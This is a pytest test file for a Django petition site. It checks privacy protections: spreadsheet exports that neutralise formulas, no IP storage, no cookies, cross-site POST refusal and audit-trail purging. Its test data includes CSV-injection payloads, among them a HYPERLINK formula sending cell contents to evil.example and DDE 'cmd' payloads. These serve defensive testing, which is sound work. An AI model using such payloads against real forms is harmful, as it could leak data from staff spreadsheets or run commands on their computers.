"""What a supporter's submission reveals, and what the server keeps: nothing about whether
an address is known, no formulas in staff spreadsheets, no IP address, no cookie."""

import datetime
import io
import re
import time
import urllib.parse

import pytest
import tablib
from auditlog.models import LogEntry
from django.core import mail, serializers
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from campaigns import services
from campaigns.models import Consent, Signature
from core import fingerprints
from outbox import tasks as outbox_tasks
from outbox.models import OutgoingEmail
from supporters.models import Supporter
from tests.factories import PetitionFactory

pytestmark = pytest.mark.django_db

# (where it is typed, the payload): names and comments come through the form, which
# trims spaces, so a leading tab or carriage return arrives through the utm_source link.
PAYLOADS = [
    ("name", '==HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("comment", "+cmd|' /C calc'!A0"),
    ("utm_source", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("referer", "-2+3+cmd|' /C calc'!A0"),
    ("utm_source", "\t=1+1"),
    ("utm_source", "\r=2+2"),
]


def export(client, admin_url, model, file_format, fields):
    from django.contrib import admin

    model_admin = admin.site._registry[model]
    names = [f.__name__ for f in model_admin.get_export_formats()]
    resource = model_admin.get_export_resource_classes(None)[0].__name__.lower()
    response = client.post(
        reverse(admin_url),
        {
            "format": str(names.index(file_format)),
            "resource": "0",
            **{f"{resource}_{field}": "on" for field in fields},
        },
    )
    assert response.status_code == 200, response.content[:500]
    if file_format == "CSV":
        return tablib.Dataset().load(response.content.decode(), format="csv")
    return tablib.Dataset().load(io.BytesIO(response.content).read(), format=file_format.lower())


@pytest.mark.parametrize("file_format", ["CSV", "XLSX", "ODS"])
def test_formulas_typed_into_public_forms_are_inert_in_every_staff_export(
    client, role_client, settings, file_format
):
    settings.SIGNING_ADDRESS_LIMITS = [(100, 60)]
    petition = PetitionFactory()
    for n, (field, payload) in enumerate(PAYLOADS):
        data = {
            "name": payload if field == "name" else "Plain Name",
            "email": f"f{n}@example.org",
            "country": "FR",
            "comment": payload if field == "comment" else "",
        }
        url = petition.get_absolute_url()
        if field == "utm_source":
            url += "?utm_source=" + urllib.parse.quote(payload)
        extra = {"HTTP_REFERER": payload} if field == "referer" else {}
        assert client.post(url, data, REMOTE_ADDR=f"198.51.100.{n}", **extra).status_code == 302
    dpo = role_client("Data protection officer")
    rows = export(
        dpo,
        "admin:campaigns_signature_export",
        Signature,
        file_format,
        ["name", "email", "comment", "source"],
    )
    cells = [str(cell) for row in rows for cell in row if cell]
    for _, payload in PAYLOADS:
        # Some formats turn a lone CR into a newline; what matters is the leading quote.
        quoted = ("'" + payload, "'" + payload.replace("\r", "\n"))
        assert any(cell in quoted for cell in cells), (payload, cells)
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []


def test_the_public_prisoner_export_is_inert_too(client):
    from tests.factories import PrisonerFactory

    PrisonerFactory(summary="@SUM(A1)", region="-1+1")
    body = client.get(reverse("prisoners:export", args=["csv"])).content.decode()
    rows = tablib.Dataset().load(body, format="csv")
    assert rows[0][rows.headers.index("summary_en")] == "'@SUM(A1)"
    assert rows[0][rows.headers.index("region")] == "'-1+1"


def test_the_privacy_form_does_the_same_work_for_known_and_unknown_addresses(client):
    services.signature_create(
        petition=PetitionFactory(), name="Dana", email="dana@example.org", country="FR"
    )
    OutgoingEmail.objects.all().delete()

    def ask(email, ip):
        with CaptureQueriesContext(connection) as queries:
            response = client.post(reverse("campaigns:privacy"), {"email": email}, REMOTE_ADDR=ip)
        shape = [re.sub(r"'[^']*'|\d+", "?", q["sql"]) for q in queries.captured_queries]
        return response.content, shape

    known = ask("dana@example.org", "192.0.2.10")
    unknown = ask("nobody@example.org", "192.0.2.11")
    assert known[0] == unknown[0]  # the same page
    assert known[1] == unknown[1], (known[1], unknown[1])  # from the same statements
    assert not any("supporters_supporter" in sql for sql in known[1])

    assert outbox_tasks.send_due_emails() == 1  # the link goes to Dana only
    [message] = mail.outbox
    assert message.to == ["dana@example.org"] and "/privacy/" in message.body
    dropped = OutgoingEmail.objects.get(status="dropped")
    assert dropped.to == "" and dropped.context == {}  # the unknown address is not kept


def test_a_duplicate_post_records_one_consent(client, settings):
    settings.SIGNING_ADDRESS_LIMITS = [(100, 60)]
    petition = PetitionFactory()
    form = {"name": "A B", "email": "ab@example.org", "country": "FR", "mailing": "on"}
    for _ in range(3):
        client.post(petition.get_absolute_url(), form, REMOTE_ADDR="192.0.2.1")
    assert Consent.objects.count() == 1
    client.post(petition.get_absolute_url(), {**form, "mailing": ""}, REMOTE_ADDR="192.0.2.1")
    assert Consent.objects.count() == 2  # a different answer is a different consent


def test_no_ip_address_is_stored_and_fingerprints_cannot_be_recomputed(client):
    petition = PetitionFactory()
    client.post(
        petition.get_absolute_url(),
        {"name": "A B", "email": "a@example.org", "country": "FR"},
        REMOTE_ADDR="203.0.113.77",
    )
    stored = Signature.objects.get().ip_hash
    # The fingerprint names the /24, not the address, under today's key only.
    assert stored == fingerprints.network_fingerprint("203.0.113.5")
    assert stored != fingerprints.network_fingerprint("203.0.114.77")
    assert len(stored) == 16
    # The key is nowhere but the cache: without it, the same network fingerprints differently.
    cache.clear()
    assert fingerprints.network_fingerprint("203.0.113.77") != stored
    # Tomorrow's key is another.
    tomorrow = timezone.now().date() + datetime.timedelta(days=1)
    assert fingerprints.daily_key(tomorrow) != fingerprints.daily_key()
    # No table holds the address or its /24 in clear.
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f'SELECT * FROM "{table}"')
            for row in cursor.fetchall():
                assert "203.0.113" not in repr(row), table


def test_rate_limit_counters_live_only_as_long_as_their_window(client, settings):
    settings.SIGNING_ADDRESS_LIMITS = [(5, 60)]
    settings.SIGNING_NETWORK_LIMITS = [(50, 3600)]
    petition = PetitionFactory()
    client.post(
        petition.get_absolute_url(),
        {"name": "A B", "email": "a@example.org", "country": "FR"},
        REMOTE_ADDR="203.0.113.77",
    )
    address_key = f"rl:sign:a:{fingerprints.address_key('203.0.113.77')}:60"
    assert cache.get(address_key) == 1
    assert 0 < _seconds_to_live(address_key) <= 60


def _seconds_to_live(key):
    """What the cache in use says of the key's lifetime: Redis in CI, local memory here."""
    full_key = cache.make_and_validate_key(key)
    if hasattr(cache, "_expire_info"):
        return cache._expire_info[full_key] - time.time()
    return cache._cache.get_client(full_key).ttl(full_key)


def test_fingerprints_of_old_signatures_are_purged(settings):
    petition = PetitionFactory()
    signature = services.signature_create(
        petition=petition, name="A", email="a@example.org", country="FR", ip="192.0.2.1"
    )
    signature.confirm()
    assert Signature.objects.get().ip_hash
    Signature.objects.update(created_at=timezone.now() - datetime.timedelta(days=31))
    services.signatures_purge_unconfirmed()
    assert Signature.objects.get().ip_hash == ""


@pytest.mark.parametrize(
    "path",
    ["/prisoners/", "/cases/", "/campaigns/", "/declarations/", "/privacy/", "/ru/prisoners/"],
)
def test_reading_sets_no_cookie(client, path, demo_data):
    response = client.get(path)
    assert response.status_code == 200
    assert not response.cookies and "Set-Cookie" not in response


def test_signing_and_confirming_leave_nothing_on_the_device(client, demo_data, settings):
    petition = PetitionFactory()
    page = client.get(petition.get_absolute_url())
    assert 'name="csrfmiddlewaretoken"' not in page.content.decode()
    response = client.post(
        petition.get_absolute_url(),
        {"name": "A B", "email": "a@example.org", "country": "FR"},
        REMOTE_ADDR="192.0.2.1",
        follow=True,
    )
    assert not response.cookies and not client.cookies
    assert "no-store" in response["Cache-Control"]
    outbox_tasks.send_due_emails()
    link = next(w for w in mail.outbox[0].body.split() if "/confirm/" in w)
    link = link.replace("http://127.0.0.1:8000", "")
    for response in (client.get(link), client.post(link)):
        assert not response.cookies and "no-store" in response["Cache-Control"]
    assert not client.cookies


def test_a_cross_site_post_is_refused_without_cookies(client):
    petition = PetitionFactory()
    form = {"name": "A B", "email": "a@example.org", "country": "FR"}
    response = client.post(
        petition.get_absolute_url(),
        form,
        HTTP_ORIGIN="https://evil.example",
        REMOTE_ADDR="192.0.2.1",
    )
    assert response.status_code == 403
    response = client.post(
        petition.get_absolute_url(), form, HTTP_SEC_FETCH_SITE="cross-site", REMOTE_ADDR="192.0.2.1"
    )
    assert response.status_code == 403
    assert not Signature.objects.exists()
    same_site = client.post(
        petition.get_absolute_url(), form, HTTP_ORIGIN="http://testserver", REMOTE_ADDR="192.0.2.1"
    )
    assert same_site.status_code == 302 and Signature.objects.count() == 1


def test_hearing_reminders_reach_only_confirmed_consenting_supporters(settings):
    from prisoners.models import TimelineEvent
    from tests.factories import PrisonerFactory, SourceFactory

    settings.SIGNING_ADDRESS_LIMITS = [(100, 60)]
    prisoner = PrisonerFactory()
    petition = PetitionFactory()
    petition.campaign.featured_prisoners.add(prisoner)

    def supporter(email, *, mailing, confirm):
        signature = services.signature_create(
            petition=petition, name="X", email=email, country="FR", mailing=mailing
        )
        if confirm:
            services.signature_confirm(signature=signature)

    supporter("confirmed@example.org", mailing=True, confirm=True)
    supporter("never.confirmed@example.org", mailing=True, confirm=False)
    supporter("no.updates@example.org", mailing=False, confirm=True)
    OutgoingEmail.objects.all().delete()
    TimelineEvent.objects.create(
        prisoner=prisoner,
        kind=TimelineEvent.Kind.HEARING,
        date=timezone.localdate() + datetime.timedelta(days=1),
        description="Appeal",
        source=SourceFactory(prisoner=prisoner),
    )
    assert services.action_reminders_send() == 1
    assert list(OutgoingEmail.objects.values_list("to", flat=True)) == ["confirmed@example.org"]
    assert Supporter.objects.get(email="never.confirmed@example.org").confirmed_at is None


def test_the_purge_leaves_no_copy_of_the_signers_in_the_audit_trail():
    petition = PetitionFactory()
    signature = services.signature_create(
        petition=petition, name="Aigul Secret", email="aigul@example.org", country="KZ"
    )
    supporter = signature.supporter
    LogEntry.objects.log_create(  # an entry from before, as signing used to write
        supporter,
        force_log=True,
        action=LogEntry.Action.CREATE,
        changes={"email": [None, supporter.email], "name": [None, supporter.name]},
    )
    Signature.objects.update(created_at=timezone.now() - datetime.timedelta(days=31))
    assert LogEntry.objects.get_for_object(supporter).exists()

    assert services.signatures_purge_unconfirmed() == 1

    assert not Signature.objects.exists() and not Supporter.objects.exists()
    trail = serializers.serialize("json", LogEntry.objects.all())
    assert "aigul@example.org" not in trail and "Aigul Secret" not in trail
    [purge] = LogEntry.objects.filter(action=LogEntry.Action.DELETE)
    assert purge.additional_data == {"purge": "unconfirmed signatures", "rows": 1}
